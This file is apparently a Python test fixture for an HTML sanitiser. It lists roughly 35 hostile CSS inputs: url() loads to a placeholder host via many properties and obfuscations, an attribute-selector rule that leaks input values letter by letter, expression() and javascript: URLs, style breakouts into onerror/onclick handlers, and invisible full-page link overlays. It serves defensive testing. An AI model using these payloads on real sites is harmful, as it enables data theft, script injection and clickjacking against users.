"""Style sheets and style attributes that load, run, hide or cover."""

from __future__ import annotations

from tests.hostile.payload import payloads

STYLES = payloads(
    "css",
    [
        ("a ground", "<p style='background:url(http://«host»)'>Words</p>"),
        ("a ground's picture", "<p style='background-image:url(\"http://«host»\")'>Words</p>"),
        (
            "a ground in a property that is kept",
            "<p style='background-color:url(http://«host»);width:1px'>Words</p>",
        ),
        (
            "a picture beside a border",
            "<p style='border:1px solid url(http://«host»);border-image:url(http://«host») 1'>Words</p>",
        ),
        (
            "a picture before a list",
            "<ul style='list-style:url(http://«host»)'><li style='list-style-image:url(http://«host»)'>"
            "Words</li></ul>",
        ),
        (
            "a list's type that is an address",
            "<ul style=\"list-style-type:url('http://«host»')\"><li>Words</li></ul>",
        ),
        ("a cursor", "<p style='cursor:url(http://«host»),auto'>Words</p>"),
        (
            "a mask and a filter",
            "<p style='mask:url(http://«host»);filter:url(http://«host»#f);"
            "clip-path:url(http://«host»#c)'>Words</p>",
        ),
        (
            "words of its own",
            "<p style='content:url(http://«host»)'>Words</p><style>"
            "p::after{content:url(http://«host»)}</style>",
        ),
        (
            "a set of pictures",
            '<p style=\'background-image:image-set("http://«host»" 1x);width:image-set("http://«host»" '
            "1x)'>Words</p>",
        ),
        (
            "a cross-fade",
            "<p style='background:-webkit-cross-fade(url(http://«host»),url(http://«host»),50%)'>Words</p>",
        ),
        (
            "an address in escapes",
            "<p style='background:\\75 rl(http://«host»);color:u\\72l(http://«host»)'>Words</p>",
        ),
        (
            "an address split by a comment",
            "<p style='background:u/**/rl(http://«host»);color:ur/* */l(http://«host»)'>Words</p>",
        ),
        ("an address by a variable", "<p style='--a:url(http://«host»);background:var(--a)'>Words</p>"),
        (
            "an address by an attribute",
            "<p title='http://«host»' style='background:attr(title url)'>Words</p>",
        ),
        ("an address by src()", "<p style='background:src(\"http://«host»\")'>Words</p>"),
        ("a font", "<style>@font-face{font-family:f;src:url(http://«host»)}p{font-family:f}</style>"),
        ("a font in a style", "<p style='font-family:url(http://«host»)'>Words</p>"),
        (
            "a namespace and a charset",
            "<style>@charset 'x';@namespace url(http://«host»);@import 'http://«host»'</style>",
        ),
        (
            "a sheet that a simple rule brings in",
            "<style>p{background:url(http://«host»);width:url(http://«host»)}</style>",
        ),
        (
            "a sheet that reads a field letter by letter",
            "<style>input[value^=a]{background:url(http://«host»)}</style><input value=abc>",
        ),
        ("an expression", "<p style='width:expression(«run»);xss:expression(«run»)'>Words</p>"),
        (
            "a behaviour and a binding",
            "<p style='behavior:url(http://«host»);-moz-binding:url(http://«host»)'>Words</p>",
        ),
        (
            "a script as an address",
            "<p style='background:url(javascript:«run»);list-style:url(javascript:«run»)'>Words</p>",
        ),
        ("a style left open", "<style>p{background:url(http://«host»)"),
        ("a style that ends in an attribute", "<style><a title='</style><img src=x onerror=«run»>'>"),
        ("a style attribute that ends the attribute", "<p style='width:1px\"onclick=\"«run»'>Words</p>"),
        (
            "a style attribute that ends the tag",
            "<p style='font-family:\"&gt;&lt;/p&gt;&lt;script&gt;«run»&lt;/script&gt;'>Words</p>",
        ),
        (
            "a cover over everything",
            "<a href='http://«host»' style='position:fixed;inset:0;z-index:2147483647;opacity:0'>Go</a>",
        ),
        (
            "a cover by a wide margin",
            "<p style='margin:-9999px;padding:9999px;width:99999px;background-color:red'>Words</p>",
        ),
        (
            "a length without end",
            "<p style='width:1e309px;height:99999999999px;font-size:99999999px;letter-spacing:-1e99px'>"
            "Words</p>",
        ),
        (
            "a container's query",
            ""
            ""
            ""
            "<style>@container (width>0){p{background:url(http://«host»)}}@supports(color:red){p{cursor:url(http://«host»),auto}}</style>"
            "<div style='container-type:inline-size'><p>Words</p></div>",
        ),
        (
            "a place that is anchored",
            "<p style='anchor-name:--a;position-anchor:--a;view-transition-name:a;scroll-timeline:--t'>"
            "Words</p>",
        ),
        ("a paint worklet", "<p style='background:paint(evil)'>Words</p>"),
    ],
)
